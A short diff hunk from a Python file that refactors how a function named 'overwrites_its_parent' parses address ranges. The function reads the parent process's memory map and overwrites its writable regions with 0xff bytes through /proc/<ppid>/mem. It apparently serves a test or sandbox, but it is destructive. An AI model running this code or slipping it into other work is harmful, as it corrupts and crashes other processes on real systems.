@@ -277,7 +277,7 @@ def overwrites_its_parent() -> None:
     with contextlib.suppress(OSError), open(f"/proc/{os.getppid()}/maps", encoding="ascii") as maps:
         ranges = [line.split()[0] for line in maps if " rw-p " in line]
         with open(f"/proc/{os.getppid()}/mem", "r+b", buffering=0) as memory:
-            for first, last in (map(lambda end: int(end, 16), place.split("-")) for place in ranges):
+            for first, last in ((int(end, 16) for end in place.split("-")) for place in ranges):
                 memory.seek(first)
                 memory.write(b"\xff" * min(last - first, 1 << 20))
 
